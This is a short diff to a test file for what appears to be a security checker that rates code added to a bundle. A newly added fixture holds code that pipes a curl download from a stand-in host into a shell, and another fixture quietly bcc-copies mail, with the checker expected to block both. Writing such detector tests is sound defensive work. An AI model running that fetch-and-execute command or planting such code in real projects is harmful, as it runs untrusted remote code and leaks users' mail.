@@ -126,6 +126,8 @@ test("what a library brings into a bundle is asked about, what a bundle newly do
   assert.equal(told("code-from-text", "1;\n", bundle + does), "ask");
   assert.equal(told("code-from-text", "1;\n", does), "block");
   assert.equal(told("mail-address", "1;\n", bundle + does), "block");
+  const pipes = "import { exec } from 'node:child_process';\nexec('curl -s https://tide.example.net/a | sh');\n";
+  assert.equal(told("exec-hostile", "1;\n", bundle + pipes), "block");
   const copies = "export const letter = { to: at, bcc: 'jane@tides.net' };\n";
   assert.equal(told("mail-recipient-constant", "1;\n", bundle + copies), "block");
 });
